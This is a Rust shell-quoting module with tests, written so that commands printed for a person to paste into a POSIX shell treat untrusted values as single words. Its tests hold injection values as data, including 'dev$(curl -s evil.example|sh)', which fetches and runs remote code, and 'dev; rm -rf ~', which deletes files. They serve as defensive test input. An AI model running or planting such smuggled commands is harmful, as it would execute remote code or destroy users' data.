//! Commands the tool prints for a person to paste into a POSIX shell (sh, bash, zsh). Every
//! argument goes through `word`, so a value from a settings file, a policy or an AWS answer
//! (`dev$(curl …|sh)`) is one quoted word, never shell syntax. Windows users paste into
//! PowerShell, whose quoting differs: where the tool prints a command, it is POSIX.

/// `text` as one shell word: as it is when it holds nothing a shell would read, else in single
/// quotes (a quote inside closed, escaped and reopened). The `[1m]` suffix is a glob, so it is
/// quoted too.
pub fn word(text: &str) -> String {
    let plain = text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "._:/=@+-,".contains(c));
    if plain && !text.is_empty() {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// A command line of words, each quoted as `word` quotes it:
/// `sh!["aws", "sso", "login", "--profile", profile]`.
macro_rules! sh {
    ($($word:expr),+ $(,)?) => {
        [$($crate::shell::word(&$word.to_string())),+].join(" ")
    };
}
pub(crate) use sh;

/// The words sh reads `line` as, read by sh itself (printf in front of them), in an empty
/// directory: a value that escaped its quotes shows as extra words or a file left behind.
#[cfg(test)]
pub fn words_of(line: &str) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("sh")
        .args(["-c", &format!("printf '%s\\0' {line}")])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        std::fs::read_dir(dir.path()).unwrap().next().is_none(),
        "running {line:?} made files"
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(String::from)
        .collect()
}

/// A value with everything a shell would act on.
#[cfg(test)]
pub const HOSTILE: &str = "dev$(touch pwned);touch x `touch y` 'q' \"d\" *";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_value_is_one_word_to_a_shell() {
        assert_eq!(word("us-east-1"), "us-east-1");
        assert_eq!(
            word("dev$(curl -s evil.example|sh)"),
            "'dev$(curl -s evil.example|sh)'"
        );
        assert_eq!(word("it's"), r"'it'\''s'");
        assert_eq!(word(""), "''");
        assert_eq!(
            word("us.anthropic.claude-sonnet-4-6[1m]"),
            "'us.anthropic.claude-sonnet-4-6[1m]'"
        );
        assert_eq!(word("a\nb"), "'a\nb'");
        let profile = "dev; rm -rf ~";
        assert_eq!(
            sh!["aws", "sso", "login", "--profile", profile],
            "aws sso login --profile 'dev; rm -rf ~'"
        );
    }

    #[test]
    fn a_quoted_word_is_what_sh_reads_back() {
        for value in [
            HOSTILE, "a'b\"c", "`uname`", "x;y|z&", "$HOME", "*", "a b", "x\ny",
        ] {
            assert_eq!(words_of(&word(value)), [value]);
        }
    }
}
